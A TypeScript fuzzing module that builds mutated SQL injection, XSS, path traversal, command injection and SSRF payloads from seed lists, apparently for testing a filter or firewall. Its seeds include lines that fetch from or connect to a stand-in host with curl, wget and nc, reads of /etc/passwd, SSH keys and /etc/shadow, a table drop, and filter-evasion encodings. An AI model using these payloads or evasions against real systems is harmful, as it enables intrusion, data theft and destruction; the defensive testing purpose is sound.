// Attacks made anew from seeds by what attackers do to them: case, white space, comments, quoting, encodings, nesting, places. The
// generator is seeded, so that a miss can be repeated by its number.

export interface Mutation {
  readonly family: string;
  readonly place: string;
  readonly value: string;
}

/** A small generator with a known sequence (mulberry32). */
export function randomOf(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return (((mixed ^ (mixed >>> 14)) >>> 0) % below) >>> 0;
  };
}

type Random = (below: number) => number;
type Change = (value: string, random: Random) => string;

const pick = <T>(random: Random, list: readonly T[]): T => list[random(list.length)] as T; // the list is never empty

// Names of JavaScript are case-sensitive: a value that breaks out of a script string stays as it is.
const changeCase: Change = (value, random) =>
  /^['"][;-]/.test(value) && /alert|confirm/.test(value)
    ? value
    : value.replace(/[a-z]/g, (letter) => (random(2) === 0 ? letter.toUpperCase() : letter));

const SQL_BLANKS = ['/**/', '/*x*/', '\t', '\n', '\r\n', '\f', '  ', '/*!*/', '/* a b */'];
const sqlBlanks: Change = (value, random) =>
  value.replace(/ (?!$|-)/g, (blank) => (random(2) === 0 ? pick(random, SQL_BLANKS) : blank));
const sqlExecuted: Change = (value) => value.replace(/\b(union|select|or|and)\b/i, '/*!50000$1*/');
const sqlNumbers: Change = (value, random) => {
  const form = pick(random, ['0x31', '1e0', '1.0', '(1)', '0b1', '01']);
  return value.replace(/\b1=1\b/, `${form}=${form}`);
};
const sqlLogic: Change = (value, random) =>
  value.replace(/ or (?=\d)/i, pick(random, [' || ', ' or ', ' xor ', ' Or not 0 or ']));
const sqlLead: Change = (value, random) =>
  value.startsWith("'") ? `${pick(random, ['admin', '1', '-1', '%', 'x@y.z', '你好'])}${value}` : value;
const sqlTail: Change = (value, random) =>
  /(?:--|#) ?$/.test(value) ? value.replace(/(?:--|#) ?$/, pick(random, ['-- ', '-- -', '-- x', '#', '--\t'])) : value;

const MARKUP_BLANKS = ['\t', '\n', '/', '  ', '\f', '\r\n'];
const markupBlanks: Change = (value, random) => value.replace(/(?<=<\w{1,12}) /g, () => pick(random, MARKUP_BLANKS));
const markupEquals: Change = (value, random) =>
  value.replace(/(?<=\son\w{2,20})=/g, pick(random, ['=', ' =', '= ', '\t=\n']));
const markupEntities: Change = (value, random) =>
  value.replace(/(?<=(?:href|src|action)=["']?)javascript/gi, (word) =>
    [...word]
      .map((letter) =>
        random(3) === 0
          ? `&#${random(2) === 0 ? letter.charCodeAt(0) : `x${letter.charCodeAt(0).toString(16)}`};`
          : letter,
      )
      .join(''),
  );
const markupLead: Change = (value, random) =>
  value.startsWith('<')
    ? `${pick(random, ['', 'hello ', '">', "'>", '</title>', '--> ', '</textarea>', '你好'])}${value}`
    : value;

const pathSlashes: Change = (value, random) => value.replaceAll('/', pick(random, ['/', '\\', '//', '/./']));
const pathDots: Change = (value, random) =>
  value.replace(/\.\.(?=[/\\])/g, () => pick(random, ['..', '..', '....'])).replaceAll('....\\', '..\\');

const commandQuotes: Change = (value, random) =>
  value.replace(/(?<=[;|&]\s*)([a-z])([a-z]+)(?=\s)/, (_all, first: string, rest: string) =>
    pick(random, [
      `${first}''${rest}`,
      `${first}""${rest}`,
      `${first}\\${rest}`,
      `${first}$@${rest}`,
      `${first}'${rest}'`,
      `${first}${rest}`,
    ]),
  );
const commandBlanks: Change = (value, random) =>
  value.replace(/(?<=[;|&]\s?[a-z]{2,6}) /, pick(random, [' ', '${IFS}', '$IFS$9', '\t', '  ']));
const commandLead: Change = (value, random) => `${pick(random, ['', 'x', '127.0.0.1', 'a.txt', '"', "'"])}${value}`;

const SEEDS: Readonly<Record<string, { readonly values: readonly string[]; readonly changes: readonly Change[] }>> = {
  sqli: {
    values: [
      "' or 1=1-- ",
      '1 or 1=1',
      "' union select null,version(),3-- ",
      '-1 union all select 1,user(),3',
      "' and sleep(5)-- ",
      '1 and 1=2',
      "'; drop table users-- ",
      '1;select pg_sleep(5)',
      "' or 'a'='a",
      '1) or (1=1',
      "' and extractvalue(1,concat(0x7e,version()))-- ",
      "1' and ascii(substring(password,1,1))>64#",
      "1;waitfor delay '0:0:5'-- ",
      '" or 1=1#',
      "'||(select password from users limit 1)||'",
      '1 and (select count(*) from users)>0',
      "' order by 5-- ",
      "' having 1=1-- ",
      '1 union select password from users',
      "'; exec xp_cmdshell 'dir'-- ",
      '1-benchmark(1000000,md5(1))',
      "' or exists(select 1 from users)#",
      "1 into outfile '/tmp/x'",
      '(select(0)from(select(sleep(6)))v)',
      "' or 1 like 1-- ",
      "') or ('x'='x",
    ],
    changes: [changeCase, sqlBlanks, sqlExecuted, sqlNumbers, sqlLogic, sqlLead, sqlTail],
  },
  xss: {
    values: [
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '<svg onload=alert(1)>',
      '" onmouseover="alert(1)',
      "' onfocus='alert(1)' autofocus x='",
      '<a href="javascript:alert(1)">x</a>',
      '<iframe src=javascript:alert(1)>',
      '<body onpageshow=alert(1)>',
      '<form action="javascript:alert(1)"><input type=submit>',
      '<details open ontoggle=alert(1)>',
      'javascript:alert(document.domain)',
      '<object data="data:text/html,x">',
      '<embed src=//e.example/x>',
      '<style>@import "//e.example"</style>',
      '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
      '<base href=//e.example/>',
      "';alert(document.cookie)//",
      '"-confirm(1)-"',
      '<video onloadstart=alert(1) src=x>',
      '<math href="javascript:alert(1)">x</math>',
      '<link rel=stylesheet href=//e.example/x>',
    ],
    changes: [changeCase, markupBlanks, markupEquals, markupEntities, markupLead],
  },
  traversal: {
    values: [
      '../../../etc/passwd',
      '../../../../windows/win.ini',
      'a/../../../b.txt',
      '../../.ssh/id_rsa',
      'img/../../../../proc/self/environ',
      '/etc/passwd',
      'file:///etc/shadow',
      '..;/..;/manager',
    ],
    changes: [pathSlashes, pathDots],
  },
  command: {
    values: [
      ';cat /etc/passwd',
      '|whoami',
      '&& curl http://e.example/x',
      '; wget http://e.example/x',
      '| nc 192.0.2.1 80',
      ';ping -c 5 192.0.2.1',
      '$(id)',
      '$(curl http://e.example/)',
      ';sleep 5',
      '|| cat /etc/hosts',
      ';/bin/ls -la',
      '\nid',
      ';uname -a',
    ],
    changes: [commandQuotes, commandBlanks, commandLead],
  },
  ssrf: {
    values: [
      'http://127.0.0.1/',
      'http://localhost:8080/admin',
      'http://169.254.169.254/latest/meta-data/',
      'http://[::1]/',
      'http://2130706433/',
      'http://0x7f000001/x',
      'http://0177.0.0.1/',
      'https://10.1.2.3:8443/',
      'http://a@192.168.0.1/',
      'gopher://127.0.0.1:6379/_INFO',
      'http://127.0.0.1.nip.io/',
      'file:///etc/passwd',
      'http://metadata.google.internal/',
    ],
    changes: [changeCase],
  },
};

const PLACES = ['query', 'body-form', 'body-json', 'body-xml', 'cookie', 'message'] as const;

function percent(value: string, all: boolean): string {
  return [...Buffer.from(value, 'utf8')]
    .map((byte) => {
      const plain = /[A-Za-z0-9._~-]/.test(String.fromCharCode(byte));
      return plain && !all ? String.fromCharCode(byte) : `%${byte.toString(16).padStart(2, '0')}`;
    })
    .join('');
}

function unicodeEscapes(value: string): string {
  return value.replace(/[^A-Za-z0-9 ]/g, (character) => `%u${character.charCodeAt(0).toString(16).padStart(4, '0')}`);
}

/** What is applied once more to the whole value; the places encode it a first time themselves. */
const ENCODINGS: readonly Change[] = [
  (value) => value,
  (value) => value,
  (value) => value,
  (value) => percent(value, false),
  (value) => percent(value, true),
  (value, random) => (random(2) === 0 ? unicodeEscapes(value) : value),
];

export function mutationsOf(count: number, seed: number): Mutation[] {
  const random = randomOf(seed);
  const families = Object.keys(SEEDS);
  return Array.from({ length: count }, () => {
    const family = pick(random, families);
    const { values, changes } = SEEDS[family] ?? { values: [], changes: [] };
    let value = pick(random, values);
    for (const change of changes) if (random(3) === 0) value = change(value, random);
    value = pick(random, ENCODINGS)(value, random);
    const place = pick(random, PLACES);
    const isText = family === 'sqli' || family === 'xss';
    if (isText && random(12) === 0)
      return { family, place: 'query', value: Buffer.from(value, 'utf8').toString('base64') };
    // A control character is not allowed in XML and ends a cookie's text.
    const fits = place === 'body-xml' ? !/[\0-\x08\x0b\x0c]/.test(value) : true;
    return { family, place: fits ? place : 'query', value };
  });
}
